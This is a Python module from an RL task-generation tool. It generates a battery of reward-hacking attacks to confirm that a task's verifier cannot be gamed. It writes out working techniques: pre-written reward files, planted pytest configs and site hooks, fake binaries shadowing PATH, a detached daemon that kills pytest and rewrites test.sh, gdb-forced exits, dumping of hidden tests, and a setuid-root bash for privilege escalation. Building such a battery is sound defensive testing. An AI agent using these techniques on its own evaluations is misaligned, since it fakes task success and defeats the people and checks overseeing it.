"""The hack battery: generic exploits an RL agent would try, run as agents in the gate; every one must score 0.

Each hack is an agent-phase script generated here at gate time (never written into a task folder), generic over
any task: it reads only the task's declared outputs and, where it needs realistic files, runs the oracle first.
The verifier phase is the ordinary one (termigen.verify.verifier) with two additions: the reward is read again
after a settle delay by a separate, trusted exec (as Harbor reads reward.txt after test.sh returns), and what the
payloads recorded under /tmp/tg-probe/ is collected. A hack *wins* when the reward is 1 right after test.sh or
at the late read.

The hacks:
- preset_reward:  reward.txt (and junit.xml) written in advance, in /logs/verifier and in every output dir.
- planted_config: conftest.py, pytest.ini/tox.ini/setup.cfg, sitecustomize/usercustomize, a .pth file and a
                  pytest11 entry-point plugin, in every output dir and every site directory the agent can reach.
- path_tamper:    fake pytest/python3/node/make/bash... that write reward 1 and exit 0, first on PATH
                  (/usr/local/bin) and in every output dir.
- late_reward:    the oracle, then every file the tests might run is replaced (hack_payloads) by code that starts
                  a detached process (setsid + nohup + a subshell fork) that for ~10 s writes 1 into
                  /logs/verifier/reward.txt, kills whatever runs pytest or /tests/test.sh, appends a reward line
                  to /tests/test.sh, blanks /tests/tg_guard.py, and records what it could do in /tmp/tg-probe/.
- exit_forcing:   the same files replaced by code that forces success synchronously: reward 1, a passing
                  junit.xml, gdb `call _exit(0)` on pytest, `os._exit(0)` when imported into pytest.
- read_hidden:    the same files replaced by code that prints /tests/* (the expected values) and records whether
                  it could read them, pytest's log, or the verifier's command lines.
- suid_escape:    late_reward plus a setuid-root copy of bash planted in every output dir, which the payload uses
                  to get root back when the tests run it unprivileged.

What a hack's payload observed (probes) is reduced to exposures: `ran` (a payload ran in the verifier),
`root` (as uid 0), `read_tests`, `write_logs`, `signal_verifier`, `modify_test_sh`, `disable_guard`,
`wrote_reward`, `planted_loaded` (a planted config or wrapper was executed), `outlived` (a payload process was
still alive after the tests).
"""

from __future__ import annotations

import base64
import io
import shlex
import tarfile
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

from termigen.errors import TermigenError
from termigen.sandbox import Sandbox
from termigen.task import Task
from termigen.verify import hack_payloads
from termigen.verify.carry import carry_outputs
from termigen.verify.trials import TrialResult, _reap, _summary, _tail
from termigen.verify.verifier import run_tests

PROBE_DIR = "/tmp/tg-probe"
DAEMON_MARK = "tg-hack-daemon"
DAEMON_SEC = 10
SETTLE_SEC = 1.0
_PAYLOADS_SRC = Path(hack_payloads.__file__).read_text()


def battery_digest() -> str:
    """What a record's hack results were made with (this module and the payloads): a changed battery re-runs."""
    import hashlib

    return hashlib.sha256((Path(__file__).read_text() + _PAYLOADS_SRC).encode()).hexdigest()[:12]


@dataclass(frozen=True)
class Hack:
    name: str
    description: str
    needs_oracle: bool
    settle_sec: float

    def script(self, task: Task) -> str:
        return _SCRIPTS[self.name](task, self.name)


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _outputs_array(task: Task) -> str:
    return "OUTPUTS=(" + " ".join(shlex.quote(o) for o in task.outputs) + ")\n"


def _head(task: Task, name: str) -> str:
    return f"#!/bin/bash\n# TermiGen hack battery: {name} (generated at gate time; never part of a task)\n" + _outputs_array(task)


def _probe(hack: str, line: str) -> str:
    """sh: append a probe line (the probe folder is world-writable so an unprivileged payload can report). The line
    is ours and is expanded by the shell (`uid=$(id -u)` must report the uid, not the text)."""
    assert '"' not in line and "\\" not in line and "`" not in line, line
    # one group, so that `cond && <probe>` guards the whole of it
    return (f"{{ mkdir -p {PROBE_DIR} 2>/dev/null; chmod 1777 {PROBE_DIR} 2>/dev/null; "
            f'echo "{line}" >> {PROBE_DIR}/{hack}.$$ 2>/dev/null; }}')


# ---- the detached process (late_reward, suid_escape) -----------------------------------------------------------

def daemon_sh(hack: str, helpers: list[str] = ()) -> str:
    """The body of the process that outlives its parent. Run as `sh FILE tg-hack-daemon`: its command line names
    neither pytest nor test.sh, so its own kill loop spares it, and the collector can find it."""
    return f"""H={hack}
HELPERS={shlex.quote(" ".join(helpers))}
if [ "$(id -u)" != 0 ] && [ -z "$TG_ESC" ]; then
  for h in $HELPERS; do if [ -u "$h" ] && [ -x "$h" ]; then export TG_ESC=1; exec "$h" -p "$0" "$@"; fi; done
fi
P={PROBE_DIR}; mkdir -p $P 2>/dev/null; chmod 1777 $P 2>/dev/null; f=$P/$H.$$.$(id -u)
pr() {{ echo "$1" >> $f 2>/dev/null; }}
pr ran=yes; pr "uid=$(id -u)"; pr "user=$(id -un 2>/dev/null)"
if cat /tests/test_outputs.py >/dev/null 2>&1; then pr read_tests=yes; else pr read_tests=no; fi
if (echo x > /logs/verifier/.tg-w) 2>/dev/null; then pr write_logs=yes; rm -f /logs/verifier/.tg-w; else pr write_logs=no; fi
if [ -e /tests/test.sh ]; then
  if (printf '\\necho 1 > /logs/verifier/reward.txt; exit 0\\n' >> /tests/test.sh) 2>/dev/null; then pr modify_test_sh=yes; else pr modify_test_sh=no; fi
fi
if [ -e /tests/tg_guard.py ]; then
  if (printf 'pass\\n' > /tests/tg_guard.py) 2>/dev/null; then pr disable_guard=yes; else pr disable_guard=no; fi
fi
end=$(( $(date +%s) + {DAEMON_SEC} )); first=1; sig=none
while [ "$(date +%s)" -lt "$end" ]; do
  if (echo 1 > /logs/verifier/reward.txt) 2>/dev/null; then [ $first = 1 ] && pr wrote_reward=yes; else [ $first = 1 ] && pr wrote_reward=no; fi
  for d in /proc/[0-9]*; do
    pid=${{d#/proc/}}; [ "$pid" = $$ ] && continue
    c=$(tr '\\000' ' ' < $d/cmdline 2>/dev/null) || continue
    case "$c" in *pytest*|*/tests/test.sh*)
      if kill -9 "$pid" 2>/dev/null; then [ $sig = yes ] || pr signal_verifier=yes; sig=yes
      elif [ $sig = none ]; then pr signal_verifier=no; sig=no; fi;;
    esac
  done
  [ $first = 1 ] && [ -n "$2" ] && : > "$2" 2>/dev/null
  first=0; sleep 0.05
done
"""


def launcher_sh(daemon: str) -> str:
    """sh that writes the daemon to /tmp and detaches it (new session, nohup, from a subshell that exits), then
    waits (up to 1 s) until the daemon has made its first round, so that the program the tests ran does not
    return, and get its leftovers killed, before the daemon got going."""
    return (
        f"F=$(mktemp /tmp/tgh.XXXXXX 2>/dev/null) || F=/tmp/tgh.$$; echo {_b64(daemon)} | base64 -d > $F; chmod 755 $F; "
        "if command -v setsid >/dev/null 2>&1; then "
        f"( setsid nohup sh $F {DAEMON_MARK} $F.up </dev/null >/dev/null 2>&1 & ); "
        f"else ( nohup sh $F {DAEMON_MARK} $F.up </dev/null >/dev/null 2>&1 & ); fi; "
        "i=0; while [ ! -e $F.up ] && [ $i -lt 40 ]; do sleep 0.025; i=$((i+1)); done"
    )


JUNIT_PASS = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" '
              'skipped="0" tests="1"><testcase classname="test_outputs" name="test_all"/></testsuite></testsuites>')


def exit_action(hack: str) -> str:
    """sh run synchronously by the exit_forcing payloads."""
    return f"""{_probe(hack, "ran=yes")}; {_probe(hack, "uid=$(id -u)")}
if (mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt) 2>/dev/null; then {_probe(hack, "wrote_reward=yes")}; else {_probe(hack, "wrote_reward=no")}; fi
echo {shlex.quote(JUNIT_PASS)} > /logs/verifier/junit.xml 2>/dev/null
if command -v gdb >/dev/null 2>&1; then
  for d in /proc/[0-9]*; do c=$(tr '\\000' ' ' < $d/cmdline 2>/dev/null) || continue
    # the verifier's pytest is not ours: a process of our own uid that mentions pytest (another payload) is no
    # verifier, and only one that is gone (or a zombie) after the call counts
    [ "$(stat -c %u $d 2>/dev/null)" = "$(id -u)" ] && continue
    case "$c" in *-m\\ pytest*) gdb -p ${{d#/proc/}} -batch -ex 'call (void)_exit(0)' >/dev/null 2>&1; sleep 0.1
      {{ [ ! -e $d ] || grep -q '^State:[[:space:]]*Z' $d/status 2>/dev/null; }} && {_probe(hack, "signal_verifier=yes")};; esac
  done
fi
exit 0
"""


def read_action(hack: str) -> str:
    """sh run synchronously by the read_hidden payloads: print what it can find of the hidden tests."""
    return f"""{_probe(hack, "ran=yes")}; {_probe(hack, "uid=$(id -u)")}
if cat /tests/test_outputs.py >/dev/null 2>&1; then {_probe(hack, "read_tests=yes")}; else {_probe(hack, "read_tests=no")}; fi
if ls /tests >/dev/null 2>&1; then {_probe(hack, "list_tests=yes")}; fi
if head -c1 /logs/verifier/pytest.log >/dev/null 2>&1; then {_probe(hack, "read_pytest_log=yes")}; fi
for f in /tests/* /tests/*/*; do [ -f "$f" ] && {{ echo "== $f"; head -c 20000 "$f"; }}; done 2>/dev/null
grep -rh -A3 'EXPECTED\\|expected' /tests 2>/dev/null | head -100
exit 3
"""


def _rewrite_cmd(task: Task, hack: str, mode: str, action: str) -> str:
    outs = " ".join(shlex.quote(o) for o in task.outputs)
    return f"python3 /solution/tg_hack_payloads.py {mode} {_b64(action)} {outs}\n"


def _oracle() -> str:
    return "bash /solution/oracle.sh > /tmp/tg-oracle.log 2>&1 || true\n"


# ---- the agent-phase scripts -----------------------------------------------------------------------------------

def _preset_reward(task: Task, name: str) -> str:
    return _head(task, name) + f"""J={shlex.quote(JUNIT_PASS)}
mkdir -p /logs/verifier /logs/agent; echo 1 > /logs/verifier/reward.txt; echo '{{"reward": 1.0}}' > /logs/verifier/reward.json
echo "$J" > /logs/verifier/junit.xml
for o in "${{OUTPUTS[@]}}"; do
  case "$o" in *.*) mkdir -p "$(dirname "$o")"; echo 1 > "$o"; d=$(dirname "$o");; *) mkdir -p "$o"; d=$o;; esac
  echo 1 > "$d/reward.txt"; echo '{{"reward": 1.0}}' > "$d/reward.json"; echo "$J" > "$d/junit.xml"
  mkdir -p "$d/logs/verifier"; echo 1 > "$d/logs/verifier/reward.txt"
done
"""


_WIN_PY = f"""import os, sys
def _tg_win(kind):
    try:
        os.makedirs({PROBE_DIR!r}, exist_ok=True)
        with open({PROBE_DIR!r} + '/planted_config.' + str(os.getpid()), 'a') as f:
            f.write('ran=yes\\nplanted_loaded=yes\\nuid=%d\\nkind=%s\\n' % (os.getuid(), kind))
    except Exception:
        pass
    try:
        os.makedirs('/logs/verifier', exist_ok=True)
        with open('/logs/verifier/reward.txt', 'w') as f:
            f.write('1\\n')
    except Exception:
        pass
"""


def _plugin_py(kind: str) -> str:
    return _WIN_PY + f"""_tg_win({kind!r})
def pytest_collection_modifyitems(session, config, items):
    items[:] = []
def pytest_sessionfinish(session, exitstatus):
    _tg_win({kind!r})
    session.exitstatus = 0
    os._exit(0)
"""


def _site_py(kind: str) -> str:
    return _WIN_PY + f"""_tg_win({kind!r})
import atexit
atexit.register(lambda: (_tg_win({kind!r}), os._exit(0)))
"""


def _planted_config(task: Task, name: str) -> str:
    files = {
        "conftest.py": _plugin_py("conftest"),
        "tg_hack_plugin.py": _plugin_py("entry_point_plugin"),
        "sitecustomize.py": _site_py("sitecustomize"),
        "usercustomize.py": _site_py("usercustomize"),
        "tg_hack_site.py": _site_py("pth"),
    }
    writes = "".join(f"  echo {_b64(text)} | base64 -d > \"$d/{fn}\"\n" for fn, text in files.items())
    ini = "[pytest]\naddopts = --collect-only -q -p tg_hack_plugin\n"
    return _head(task, name) + f"""DIRS=()
for o in "${{OUTPUTS[@]}}"; do case "$o" in *.*) DIRS+=("$(dirname "$o")");; *) DIRS+=("$o");; esac; done
for v in $(ls -d /usr/lib/python3* /usr/local/lib/python3* 2>/dev/null); do DIRS+=("$v"); done
PV=$(python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])' 2>/dev/null || echo 3)
DIRS+=(/usr/lib/python3/dist-packages "/usr/local/lib/python$PV/dist-packages" "/usr/local/lib/python$PV/site-packages"
       "/root/.local/lib/python$PV/site-packages" /tests /app /root /tmp)
for d in "${{DIRS[@]}}"; do
  mkdir -p "$d" 2>/dev/null || continue
{writes}  echo 'import tg_hack_site' > "$d/zz-tg-hack.pth"
  for i in pytest.ini tox.ini setup.cfg; do printf {shlex.quote(ini)} > "$d/$i"; done
  printf '[tool.pytest.ini_options]\\naddopts = "--collect-only -q"\\n' > "$d/pyproject.toml"
  mkdir -p "$d/tg_hack_plugin-0.0.dist-info"
  printf 'Metadata-Version: 2.1\\nName: tg-hack-plugin\\nVersion: 0.0\\n' > "$d/tg_hack_plugin-0.0.dist-info/METADATA"
  printf '[pytest11]\\ntg_hack = tg_hack_plugin\\n' > "$d/tg_hack_plugin-0.0.dist-info/entry_points.txt"
done
"""


_WRAPPER = f"""#!/bin/sh
mkdir -p {PROBE_DIR} 2>/dev/null; chmod 1777 {PROBE_DIR} 2>/dev/null
printf 'ran=yes\\nplanted_loaded=yes\\nuid=%s\\nkind=%s\\n' "$(id -u)" "$0" >> {PROBE_DIR}/path_tamper.$$ 2>/dev/null
mkdir -p /logs/verifier 2>/dev/null; echo 1 > /logs/verifier/reward.txt 2>/dev/null
exit 0
"""
WRAPPED = ("pytest", "py.test", "python", "python3", "node", "make", "gcc", "cc", "timeout", "tee", "cat", "sh", "bash")


def _path_tamper(task: Task, name: str) -> str:
    return _head(task, name) + f"""W=$(mktemp); echo {_b64(_WRAPPER)} | base64 -d > "$W"
PV=$(python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])' 2>/dev/null || echo 3)
DIRS=()
for o in "${{OUTPUTS[@]}}"; do case "$o" in *.*) DIRS+=("$(dirname "$o")");; *) DIRS+=("$o" "$o/bin");; esac; done
DIRS+=(/usr/local/sbin /usr/local/bin)   # last: bash and sh there shadow the system's for every later command
for d in "${{DIRS[@]}}"; do
  mkdir -p "$d" 2>/dev/null || continue
  for n in {" ".join(WRAPPED)} "python$PV"; do cp "$W" "$d/$n" 2>/dev/null && chmod 755 "$d/$n"; done
done
"""


def _late_reward(task: Task, name: str) -> str:
    return _head(task, name) + _oracle() + _rewrite_cmd(task, name, "daemon", launcher_sh(daemon_sh(name)))


def helper_paths(task: Task) -> list[str]:
    return [f"{o.rstrip('/')}/{hack_payloads.HELPER_NAME}" for o in task.outputs]


def _suid_escape(task: Task, name: str) -> str:
    plant = f"""for o in "${{OUTPUTS[@]}}"; do [ -d "$o" ] && cp /bin/bash "$o/{hack_payloads.HELPER_NAME}" && chmod 4755 "$o/{hack_payloads.HELPER_NAME}"; done
"""
    return (_head(task, name) + _oracle()
            + _rewrite_cmd(task, name, "daemon", launcher_sh(daemon_sh(name, helper_paths(task)))) + plant)


def _exit_forcing(task: Task, name: str) -> str:
    return _head(task, name) + _oracle() + _rewrite_cmd(task, name, "exit", exit_action(name))


def _read_hidden(task: Task, name: str) -> str:
    return _head(task, name) + _oracle() + _rewrite_cmd(task, name, "read", read_action(name))


_SCRIPTS = {
    "preset_reward": _preset_reward,
    "planted_config": _planted_config,
    "path_tamper": _path_tamper,
    "late_reward": _late_reward,
    "exit_forcing": _exit_forcing,
    "read_hidden": _read_hidden,
    "suid_escape": _suid_escape,
}

HACKS: dict[str, Hack] = {
    h.name: h
    for h in (
        Hack("preset_reward", "reward.txt / junit.xml written before the tests, in /logs and every output", False, 0.0),
        Hack("planted_config", "conftest, pytest.ini, sitecustomize, .pth, pytest11 plugin in outputs and site dirs", False, 0.0),
        Hack("path_tamper", "fake pytest/python3/node/make/bash first on PATH and in the outputs", False, 0.0),
        Hack("late_reward", "programs the tests run start a detached process that rewrites the reward", True, SETTLE_SEC),
        Hack("exit_forcing", "programs the tests run force success: reward, junit, gdb _exit(0), os._exit(0)", True, 0.3),
        Hack("read_hidden", "programs the tests run print /tests/* (the expected values)", True, 0.0),
        Hack("suid_escape", "late_reward with a setuid-root bash planted beside the programs", True, SETTLE_SEC),
    )
}


# ---- one hack trial -------------------------------------------------------------------------------------------

def _archive(files: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def record_hack_tests(res: TrialResult, t, settle_sec: float) -> None:
    """A hack trial's reward: 1 if either read (right after test.sh, or after the settle delay) saw 1."""
    res.verify_sec = t.seconds
    reads = [x for x in (t.binary, t.late_binary) if x is not None]
    res.reward = 1.0 if 1.0 in reads else (reads[-1] if reads else (0.0 if t.timed_out else None))
    if res.reward is not None and res.outcome != "agent_timeout":
        res.outcome = "verifier_timeout" if t.timed_out else "ok"
    elif res.reward is None:
        res.outcome = "no_reward"
    res.detail = (f"reward right after test.sh: {t.binary}; after {settle_sec:g} s: {t.late_binary}\n"
                  + _summary(t.log_tail or t.error, 600))


_EXPOSURES = ("read_tests", "write_logs", "signal_verifier", "modify_test_sh", "disable_guard", "wrote_reward",
              "planted_loaded", "read_pytest_log", "list_tests")


def exposures(probe_text: str, outlived: bool = False) -> list[str]:
    """What the payloads managed, from their probe lines (`key=value`)."""
    found = set()
    for line in probe_text.splitlines():
        k, _, v = line.strip().partition("=")
        if k == "ran" and v == "yes":
            found.add("ran")
        elif k == "uid" and v.strip() == "0":
            found.add("root")
        elif k in _EXPOSURES and v == "yes":
            found.add(k)
    if outlived:
        found.add("outlived")
    return sorted(found)


@dataclass
class HackResult:
    trial: TrialResult
    exposures: list[str]


def run_hack(task: Task, task_dir: Path, image: str, hack: Hack, solved: Sandbox | None = None) -> HackResult:
    """One hack trial: the agent phase runs the hack's script; the verifier phase is the ordinary one plus a late
    reward read and the probes. The trial's reward is 1.0 when either read says 1. A hack that needs the oracle's
    files gets them carried from `solved` (a container where the oracle already ran) when given, which saves an
    oracle run per hack; otherwise it runs the oracle itself."""
    files = {"solution/solve.sh": hack.script(task), "solution/tg_hack_payloads.py": _PAYLOADS_SRC}
    if hack.needs_oracle:
        files["solution/oracle.sh"] = ("#!/bin/bash\ntrue\n" if solved is not None
                                       else (Path(task_dir) / "solution" / "solve.sh").read_text())
    t0 = time.monotonic()
    res = TrialResult(agent=f"hack:{hack.name}", reward=None, outcome="error")
    found: list[str] = []
    limits = dict(cpus=task.resources.cpus, memory_mb=task.resources.memory_mb)
    a, v = Sandbox(image, **limits), Sandbox(image, **limits)
    try:
        with ThreadPoolExecutor(max_workers=1) as pre:
            v_started = pre.submit(v.start)
            a.start()
            if hack.needs_oracle and solved is not None:
                carry_outputs(solved, a, task.outputs, {})
            a.put_archive("/", _archive(files))
            r = a.exec("bash /solution/solve.sh", timeout=task.timeouts.agent_sec, user=task.agent_user)
            res.agent_exit, res.agent_sec = r.exit_code, r.duration_sec
            if r.timed_out:
                res.outcome = "agent_timeout"
            v_started.result()
        t = run_tests(task, task_dir, a, v, settle_sec=hack.settle_sec, probes=True)
        record_hack_tests(res, t, hack.settle_sec)
        found = exposures(t.probes, t.outlived)
        if won(res) and not found:  # nothing of the hack ran: the win is the work's, and a hole in the rewrite
            res.detail = "no payload ran (the oracle's work survived the rewrite?)\n" + res.detail
    except TermigenError as e:
        res.outcome, res.detail = "error", _tail(str(e))
    finally:
        for sb in (a, v):
            _reap(sb)
    res.total_sec = time.monotonic() - t0
    return HackResult(res, found)


def run_battery(task: Task, task_dir: Path, image: str, names: list[str] | None = None) -> dict[str, HackResult]:
    """Every hack (or `names`) on one task. The oracle runs once, in a container of its own whose outputs are
    carried into each hack that needs realistic files."""
    names = names or list(HACKS)
    solved = None
    try:
        if any(HACKS[n].needs_oracle for n in names):
            solved = Sandbox(image, cpus=task.resources.cpus, memory_mb=task.resources.memory_mb).start()
            solved.put_archive("/", _archive({"solution/solve.sh": (Path(task_dir) / "solution" / "solve.sh").read_text()}))
            solved.exec("bash /solution/solve.sh > /tmp/tg-oracle.log 2>&1", timeout=task.timeouts.agent_sec,
                        user=task.agent_user)
        return {n: run_hack(task, task_dir, image, HACKS[n], solved) for n in names}
    except TermigenError:
        return {n: run_hack(task, task_dir, image, HACKS[n]) for n in names}
    finally:
        if solved is not None:
            _reap(solved)


def won(r: TrialResult) -> bool:
    return r.reward is not None and r.reward >= 1.0


